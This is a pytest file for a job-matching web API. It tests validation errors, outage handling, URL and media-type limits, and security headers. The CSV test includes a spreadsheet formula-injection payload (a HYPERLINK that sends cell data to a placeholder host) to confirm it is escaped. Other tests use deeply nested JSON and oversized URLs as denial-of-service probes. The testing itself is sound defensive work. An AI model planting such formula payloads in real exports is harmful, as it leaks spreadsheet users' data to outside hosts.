"""Bad input answered with 400/422 naming the problem, and storage outages answered with 503 (real node; the
outage is a client pointed at a closed port)."""

from __future__ import annotations

import logging

import pytest

from jobmatch import create_app
from tests import factories
from tests.conftest import auth


@pytest.fixture(scope="module")
def records(app, tokens):
    client = app.test_client()
    headers = auth(tokens["counsellor"])
    employer_id = client.post("/api/v1/employers", json=factories.employer(), headers=headers).get_json()["employer_id"]
    job_id = client.post("/api/v1/jobs", json=factories.job(employer_id), headers=headers).get_json()["job_id"]
    return {"employer_id": employer_id, "job_id": job_id}


@pytest.mark.parametrize("body", ["null", "[]", '"x"', "7"])
def test_patch_bodies_that_are_not_objects_are_422(client, tokens, records, body):
    headers = auth(tokens["counsellor"])
    etag = client.get(f"/api/v1/jobs/{records['job_id']}", headers=headers).headers["ETag"]
    response = client.patch(f"/api/v1/jobs/{records['job_id']}", data=body, content_type="application/json",
                            headers={**headers, "If-Match": etag})
    assert response.status_code == 422, response.get_json()
    assert "_schema" in response.get_json()["errors"]["json"]


@pytest.mark.parametrize("path", ["/api/v1/jobs", "/api/v1/workers", "/api/v1/employers", "/api/v1/placements",
                                  "/api/v1/matches/search", "/api/v1/exchange-sessions"])
def test_deeply_nested_json_is_400_on_every_write_route(client, tokens, path):
    deep = "[" * 50_000 + "]" * 50_000
    response = client.post(path, data=deep, content_type="application/json", headers=auth(tokens["counsellor"]))
    assert response.status_code == 400 and "nests deeper" in response.get_json()["message"]


@pytest.mark.parametrize(("change", "where"), [
    ({"openings": 2.5}, ("openings",)),
    ({"salary_min": "7000000.5"}, ("salary_min",)),
    ({"title": "\u200b"}, ("title",)),
])
def test_wrong_vacancy_values_name_the_field(client, tokens, records, change, where):
    body = factories.job(records["employer_id"], **change)
    response = client.post("/api/v1/jobs", json=body, headers=auth(tokens["counsellor"]))
    assert response.status_code == 422, response.get_json()
    assert where[0] in response.get_json()["errors"]["json"]


@pytest.mark.parametrize(("change", "field"), [
    ({"registered_at": "2099-01-01"}, "registered_at"),
    ({"work_history": [{"title": "Thợ hàn", "from_year": 2090}]}, "work_history"),
    ({"birth_year": 1995, "work_history": [{"title": "Thợ hàn", "from_year": 1994}]}, "work_history"),
    ({"birth_year": 1990.5}, "birth_year"),
])
def test_wrong_jobseeker_values_name_the_field(client, tokens, change, field):
    response = client.post("/api/v1/workers", json=factories.worker(**change), headers=auth(tokens["counsellor"]))
    assert response.status_code == 422, response.get_json()
    assert field in response.get_json()["errors"]["json"]


def test_whole_numbers_from_csv_text_still_load(client, tokens, records):
    body = factories.job(records["employer_id"], openings="3", salary_min=7_000_000.0)
    response = client.post("/api/v1/jobs", json=body, headers=auth(tokens["counsellor"]))
    assert response.status_code == 201 and response.get_json()["openings"] == 3


def test_tokens_only_for_existing_employers(client, tokens, records):
    headers = auth(tokens["admin"])
    missing = client.post("/api/v1/tokens", json={"role": "employer", "employer_id": "emp-nobody"}, headers=headers)
    assert missing.status_code == 422 and "employer_id" in missing.get_json()["errors"]["json"]
    real = client.post("/api/v1/tokens", json={"role": "employer", "employer_id": records["employer_id"]},
                       headers=headers)
    assert real.status_code == 201


def test_storage_outage_is_503_with_retry_after_and_one_log_line(caplog, tokens):
    down = create_app({"ES_URL": "http://127.0.0.1:9", "STARTUP_CHECKS": False, "ES_REQUEST_TIMEOUT": 2.0})
    client = down.test_client()
    with caplog.at_level(logging.WARNING):
        responses = [client.get("/api/v1/jobs", headers=auth(tokens["admin"])) for _ in range(3)]
    for response in responses:
        assert response.status_code == 503, response.get_json()
        assert response.headers["Retry-After"] == "30" and response.get_json()["code"] == "unavailable"
    storage_lines = [r for r in caplog.records if "storage" in r.getMessage()]
    assert len(storage_lines) <= 1 and not any(r.exc_info for r in caplog.records)


def test_csv_cells_cannot_start_a_formula():
    from jobmatch.http import csv_download, spreadsheet_safe

    assert spreadsheet_safe('=HYPERLINK("http://x/?"&B2,"Xem")') == '\'=HYPERLINK("http://x/?"&B2,"Xem")'
    assert spreadsheet_safe("+84912345678") == "'+84912345678" and spreadsheet_safe(7) == 7
    body = csv_download([{"title": "@SUM(A1)", "n": 3}], ["title", "n"], "x.csv").get_data(as_text=True)
    assert body.splitlines()[1] == "'@SUM(A1),3"


def test_responses_with_personal_data_are_not_cached_or_framed(client, tokens):
    response = client.get("/api/v1/me", headers=auth(tokens["counsellor"]))
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff" and response.headers["X-Frame-Options"] == "DENY"


def test_an_import_cut_off_by_an_outage_reports_its_counts_and_how_to_resume(tmp_path, monkeypatch):
    import json

    from indexer import pipeline

    monkeypatch.setattr(pipeline, "RETRY_DELAYS", (0.0, 0.0))  # retried twice, at once: the node stays down
    path = tmp_path / "employers.jsonl"
    path.write_text(json.dumps(factories.employer(external_id="E-OUT", source="t"), ensure_ascii=False) + "\n",
                    encoding="utf-8")
    down = create_app({"ES_URL": "http://127.0.0.1:9", "STARTUP_CHECKS": False, "ES_REQUEST_TIMEOUT": 2.0})
    result = down.test_cli_runner().invoke(args=["jobmatch", "import", "employers", str(path)])
    assert result.exit_code == 1
    assert '"read": 1' in result.output and "Re-run the same command to resume" in result.output


# --- too-long URLs (414) and bodies that are not JSON (415) -----------------------------------------------


def chunked_request(path, body, content_type, headers, method="POST"):
    """A request whose body is chunked: no Content-Length, the stream ends where the chunks end (as gunicorn
    hands it to the app)."""
    import io

    from werkzeug.test import EnvironBuilder
    from werkzeug.wrappers import Request

    builder = EnvironBuilder(path=path, method=method, input_stream=io.BytesIO(body),
                             headers={**headers, "Content-Type": content_type, "Transfer-Encoding": "chunked"})
    environ = builder.get_environ()
    environ.pop("CONTENT_LENGTH", None)
    environ["wsgi.input_terminated"] = True
    return Request(environ)


def assert_error(response, status, code):
    assert response.status_code == status, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/json"
    body = response.get_json()
    assert (body["status"], body["code"]) == (status, code) and body["message"]
    return body


def test_a_too_long_url_is_a_json_414_before_anything_else(app, client, tokens):
    limit = app.config["MAX_URL_LENGTH"]
    long_query = {"q": "thợ hàn " * limit}
    body = assert_error(client.get("/api/v1/jobs", query_string=long_query, headers=auth(tokens["admin"])),
                        414, "uri_too_long")
    assert str(limit) in body["message"]
    # Refused the same way without a token and on a path that does not exist.
    assert_error(client.get("/api/v1/jobs", query_string=long_query), 414, "uri_too_long")
    assert_error(client.get("/api/v1/nothing-here/" + "x" * limit), 414, "uri_too_long")
    # At the limit the URL reaches the route, whose own check names the field (q is at most 200 characters).
    path = "/api/v1/jobs?q="
    at_limit = client.get(path + "a" * (limit - len(path)), headers=auth(tokens["admin"]))
    assert at_limit.status_code == 422 and "q" in at_limit.get_json()["errors"]["query"], at_limit.get_json()


def test_gunicorn_lets_the_app_answer_too_long_urls():
    import runpy
    from pathlib import Path

    from config.settings import load_settings

    conf = runpy.run_path(str(Path(__file__).resolve().parents[2] / "config" / "gunicorn.conf.py"))
    # The request line is the target plus the method, two spaces and "HTTP/1.1".
    assert conf["limit_request_line"] >= load_settings()["MAX_URL_LENGTH"] + len("OPTIONS  HTTP/1.1")


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "text/csv"])
def test_a_chunked_body_that_is_not_json_is_415(client, tokens, content_type):
    request = chunked_request("/api/v1/employers", "name=Công ty".encode(), content_type, auth(tokens["counsellor"]))
    assert_error(client.open(request), 415, "unsupported_media_type")


def test_a_body_that_is_not_json_is_415_on_every_body_method(client, tokens, records):
    headers = auth(tokens["counsellor"])
    job = f"/api/v1/jobs/{records['job_id']}"
    assert_error(client.post("/api/v1/employers", data="name=x", content_type="text/plain", headers=headers),
                 415, "unsupported_media_type")
    assert_error(client.patch(job, data="title=x", content_type="text/plain", headers={**headers, "If-Match": '"1"'}),
                 415, "unsupported_media_type")
    assert_error(client.delete(job, data="reason=x", content_type="text/plain", headers=headers),
                 415, "unsupported_media_type")
    assert client.get(job, headers=headers).get_json()["status"] == "open"  # nothing was closed


def test_a_chunked_json_body_is_read(client, tokens):
    import json

    body = json.dumps(factories.employer(name="Công ty gửi từng khúc")).encode()
    response = client.open(chunked_request("/api/v1/employers", body, "application/json", auth(tokens["counsellor"])))
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["name"] == "Công ty gửi từng khúc"


def test_a_real_gunicorn_answers_414_and_415_as_json(es, indices):
    """Through gunicorn itself (config/gunicorn.conf.py): its own limits and chunked decoding come first."""
    import os
    import socket
    import subprocess
    import sys
    import time
    from pathlib import Path

    from tests.conftest import RUN_PREFIX, issue_tokens

    token = issue_tokens(es, RUN_PREFIX)["counsellor"]
    repo = Path(__file__).resolve().parents[2]
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {**os.environ, "API_HOST": "127.0.0.1", "API_PORT": str(port), "API_WORKERS": "1", "API_THREADS": "1",
           "INDEX_PREFIX": RUN_PREFIX, "STARTUP_CHECKS": "false", "SCHEDULER_ENABLED": "false"}
    proc = subprocess.Popen([str(Path(sys.executable).with_name("gunicorn")), "-c", "config/gunicorn.conf.py",
                             "wsgi:app"], cwd=repo, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, start_new_session=True)

    def send(raw: bytes) -> tuple[int, str, bytes]:
        with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
            conn.sendall(raw)
            data = b""
            while chunk := conn.recv(65536):
                data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        content_type = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith(
            "content-type:")), "")
        return int(lines[0].split()[1]), content_type, body

    try:
        deadline = time.monotonic() + 120
        while True:
            assert proc.poll() is None, proc.stderr.read().decode(errors="replace")[-2000:]
            try:
                status, _, _ = send(b"GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
                if status == 200:
                    break
            except OSError:
                pass
            assert time.monotonic() < deadline, "gunicorn did not start"
            time.sleep(0.5)
        auth_line = f"Authorization: Bearer {token}\r\n".encode()
        too_long = b"/api/v1/jobs?q=" + b"a" * 6000  # over MAX_URL_LENGTH, under gunicorn's request-line limit
        status, content_type, body = send(b"GET " + too_long + b" HTTP/1.1\r\nHost: t\r\n" + auth_line +
                                          b"Connection: close\r\n\r\n")
        assert (status, content_type) == (414, "application/json"), body[:300]
        assert b'"code":"uri_too_long"' in body
        chunks = b"5\r\nname=\r\n3\r\nabc\r\n0\r\n\r\n"
        status, content_type, body = send(b"POST /api/v1/employers HTTP/1.1\r\nHost: t\r\n" + auth_line +
                                          b"Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\n"
                                          b"Connection: close\r\n\r\n" + chunks)
        assert (status, content_type) == (415, "application/json"), body[:300]
        assert b'"code":"unsupported_media_type"' in body
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=10)
        proc.stderr.close()


@pytest.mark.parametrize("etag", ['"0-0"', "*", '"1-99999999999999999999"', "1-0", '"1-0"x'])
def test_an_if_match_this_api_never_issued_is_400_not_500(client, tokens, records, etag):
    # "0-0" made Elasticsearch answer 400 (primary terms start at 1), which came back as a 500.
    headers = {**auth(tokens["counsellor"]), "If-Match": etag}
    response = client.patch(f"/api/v1/jobs/{records['job_id']}", json={"openings": 4}, headers=headers)
    assert_error(response, 400, "bad_request")
